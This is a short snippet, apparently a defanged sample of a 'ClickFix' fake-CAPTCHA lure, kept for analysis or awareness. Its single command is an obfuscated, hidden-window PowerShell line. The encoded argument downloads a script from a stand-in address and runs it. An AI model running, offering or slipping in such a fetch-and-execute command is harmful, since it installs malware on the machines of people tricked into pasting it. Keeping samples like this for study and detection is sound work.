# defanged sample of a "ClickFix" fake-CAPTCHA payload (do not run)
powershell -w hidden -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAxADkAMgAuADAALgAyAC4ANQAwAC8AYwBhAHAAdABjAGgAYQAuAHAAcwAxACkA
